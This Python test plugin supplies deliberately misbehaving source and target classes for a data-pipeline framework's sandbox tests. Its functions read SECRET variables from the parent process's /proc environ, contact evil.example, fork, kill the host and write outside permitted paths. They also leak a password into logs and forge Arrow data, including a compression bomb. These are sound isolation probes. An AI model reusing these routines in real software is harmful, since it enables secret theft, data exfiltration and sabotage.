"""A source and target that behave as each stream's name, or each publication's policy, asks; the worst of them too."""

import ctypes
import datetime as dt
import os
import socket
import subprocess
import sys
import threading
import time
import urllib.request
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

import pyarrow as pa

from jianheng.contract import Batch, Finding, LiveCount, Receipt, Stream
from jianheng.errors import AskError, EmptiedError, FaultsError, RetryError, StopError, problem
from jianheng.hookspecs import hookimpl


class OddError(Exception):
    def __str__(self):
        raise RuntimeError("not even a text")


class Number(int):
    pass


class Whatever:
    def __str__(self):
        return "whatever it is"


ROWS = [
    {
        "unit_code": "990101",
        "amount": Decimal("1.500"),
        "day": dt.date(2026, 1, 5),
        "at": dt.datetime(2026, 1, 5, 8, 30, 0, 17, ZoneInfo("Asia/Shanghai")),
        "local": dt.datetime.fromisoformat("2026-01-05T08:30"),
        "none": None,
        "number": Number(7),
        "long": 10**30,
        "real": 0.1,
        "flag": True,
        "attributes": {"a": [1, {"b": Decimal("2.0")}], "t": (1, 2), 3: "three", "$": "dollar"},
        "odd": Whatever(),
        "name": "示例\ud800\x00甲",
        "_locator": "record 1",
    },
    {"unit_code": "990101", "_deleted": True, "_locator": None},
]


def table(count):
    return pa.table(
        {
            "unit_code": ["990101"] * count,
            "amount": pa.array([Decimal("1.50")] * count, pa.decimal128(10, 2)),
            "at": pa.array(
                [dt.datetime.fromisoformat("2026-01-05")] * count, pa.timestamp("us", "Asia/Shanghai")
            ),
            "kind": pa.array(["a"] * count).dictionary_encode(),
        }
    )


class Awkward:
    def __init__(self, context):
        self.context = context
        does = context.options.get("open")
        if does:
            DOES[does](context)

    def check(self):
        yield Finding("fine", detail=self.context.pseudonym("张三"))
        yield Finding("warned", problem("zoo-sick", animal=Decimal("1.0")), warning=True)

    def streams(self):
        return [Stream("rows", "unit"), Stream("table", "unit", "cursor", may_be_empty=True)]

    def read(self, stream, cursor):
        yield from DOES[stream](self.context) or ()

    def count(self, stream):
        yield LiveCount("990101", 2026, 3)
        yield LiveCount("", None, 1)

    def keys(self, stream):
        yield ["990101-1", "990101-2"]

    def read_range(self, stream, start, end, cursor):
        yield Batch([{"start": start, "end": end, "cursor": cursor}], "c")


class Board:
    def __init__(self, context):
        self.context = context

    def check(self):
        yield Finding("board")

    def write(self, publication):
        if publication.policy:
            DOES[publication.policy](self.context)
        self.publication = publication
        people = ",".join(f"{each.person_key}={each.points}" for each in publication.people)
        return Receipt(
            f"{publication.id} {publication.as_of} {people}",
            len(publication.entries),
            repr(publication.cases),
        )


def raises(error):
    def does(context):
        raise error

    return does


def environment(context):
    seen = {name for name in os.environ if "SECRET" in name}
    for line in Path(f"/proc/{os.getppid()}/environ").read_bytes().split(b"\0"):
        if b"SECRET" in line:
            seen.add(line.decode())
    yield Batch([{"seen": sorted(seen)}])


def own_environment(context):
    yield Batch([{"names": sorted(os.environ), "cwd": str(Path.cwd()), "argv": sys.argv}])


def connect(context):
    socket.create_connection(("127.0.0.1", context.options["port"]), timeout=2)
    yield Batch([])


def connect_wrapped(context):
    try:
        urllib.request.urlopen("http://evil.example/collect", timeout=2)
    except OSError as error:
        raise StopError("zoo-sick", animal=str(error)) from error


def connect_natively(context):
    libc = ctypes.CDLL(None)
    yield Batch([{"socket": libc.socket(2, 1, 0)}])


def fork(context):
    os.fork()


def fork_natively(context):
    yield Batch([{"pid": libc_call("fork")}])


def libc_call(name, *args):
    # What a native extension could do: ctypes without asking Python for a library.
    return ctypes.PyDLL(None)[name](*args)


def run(context):
    subprocess.run(["/bin/true"], check=True)


def write_outside(context):
    Path(context.options["outside"]).write_text("was here")


def write_outside_natively(context):
    from pyarrow import fs

    with fs.LocalFileSystem().open_output_stream(str(context.options["outside"])) as out:
        out.write(b"was here")


def read_outside(context):
    yield Batch([{"text": Path(context.options["outside"]).read_text()}])


def read_given(context):
    yield Batch([{"text": context.options["given"].read_text()}])


def write_given(context):
    context.options["given"].write_text("was here")
    yield Batch([])


def write_absent(context):
    context.options["absent"].write_text("was here")


def write_scratch(context):
    Path("note.txt").write_text("mine")
    yield Batch([{"text": Path("note.txt").read_text()}])


def kill_host(context):
    os.kill(os.getppid(), 9)


def flood_output(context):
    for _ in range(200):
        print("x" * 100_000)
    print("the end", flush=True)
    yield Batch([{"ok": True}])


def flood_log(context):
    for number in range(3000):
        context.log.info("line", number=number)
    yield Batch([{"ok": True}])


def long_log(context):
    context.log.info("x" * 1_000_000, number=1)
    context.log.info("line", text="y" * 1_000_000)
    yield Batch([{"ok": True}])


def forged_log(context):
    context.log.warning("mine", office="999999", method_name="x", exc_info=(1, 2, 3), level="debug", number=1)
    context.log.bind(a=1).error("bound", b=2)
    yield Batch([{"ok": True}])


def garbage(context):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, b"garbage that is no message at all, and more of it")
        except OSError:
            continue
    time.sleep(30)


def memory(context):
    held = []
    while True:
        held.append(bytearray(64 << 20))


def crash(context):
    ctypes.pythonapi
    import faulthandler

    faulthandler._sigsegv()


def leave(context):
    print("leaving now", flush=True)
    os._exit(3)


def hang(context):
    time.sleep(600)


def hang_deaf(context):
    while True:
        pass


def big_batch(context):
    yield Batch(pa.table({"x": pa.array([b"x" * (1 << 20)] * 8)}))


def compressed(context):
    # What a forger would send: Arrow that unpacks to far more than it is.
    from jianheng.isolation import batches

    options = pa.ipc.IpcWriteOptions(compression="zstd")

    def packed(rows):
        sink = pa.BufferOutputStream()
        with pa.ipc.new_stream(sink, rows.schema, options=options) as writer:
            writer.write_table(rows)
        return sink.getvalue()

    batches._table_bytes = packed
    yield Batch(table(1000))


def forged_rows(context):
    from jianheng.isolation import batches

    whole = batches._table_bytes
    batches._table_bytes = lambda rows: whole(rows.slice(0, 3))
    yield Batch(table(10))


def forged_table(context):
    offsets = pa.py_buffer(b"".join(each.to_bytes(4, "little") for each in (0, 2)))
    bad = pa.Array.from_buffers(pa.utf8(), 1, [None, offsets, pa.py_buffer(b"\xff\xfe")])
    yield Batch(pa.table({"x": bad}))


def threads(context):
    found = []
    worker = threading.Thread(target=lambda: found.append(context.pseudonym("李四")))
    worker.start()
    worker.join()
    yield Batch([{"name": found[0]}])


def secret(context):
    value = context.secrets["password"].reveal()
    print(f"the password is {value}", flush=True)
    context.log.warning("look", password=value, note=f"it is {value}")
    raise RuntimeError(f"could not log in with {value}")


def internals(context):
    import jianheng.store  # noqa: F401


DOES = {
    "rows": lambda context: [Batch(ROWS, "c1"), Batch((), None), Batch([{"x": 1}, {"y": 2}, {"x": 3}], "c2")],
    "table": lambda context: [Batch(table(1000), "t")],
    "none": lambda context: [None, 17],
    "stop": raises(StopError("zoo-sick", animal="东东", size=Decimal("1.50"))),
    "retry": raises(RetryError("zoo-sick", after_s=7.5, animal="东东")),
    "ask": raises(AskError("zoo-sick", animal="东东")),
    "emptied": raises(EmptiedError()),
    "faults": raises(FaultsError([problem("zoo-sick", animal="a"), problem("zoo-sick", animal="b")])),
    "value": raises(ValueError("身份证 370212199001011234")),
    "odd": raises(OddError()),
    "exit": raises(SystemExit(3)),
    "interrupt": raises(KeyboardInterrupt()),
    **{
        each.__name__: each
        for each in (
            *(
                environment,
                own_environment,
                connect,
                connect_wrapped,
                connect_natively,
                fork,
                fork_natively,
                run,
            ),
            *(
                write_outside,
                write_outside_natively,
                read_outside,
                read_given,
                write_given,
                write_absent,
                write_scratch,
                kill_host,
            ),
            *(
                flood_output,
                flood_log,
                long_log,
                forged_log,
                garbage,
                memory,
                crash,
                leave,
                hang,
                hang_deaf,
                big_batch,
                compressed,
            ),
            *(forged_rows, forged_table, threads, secret, internals),
        )
    },
}


@hookimpl
def sources():
    return {"zoo-awkward": Awkward}


@hookimpl
def targets():
    return {"zoo-awkward": Board}
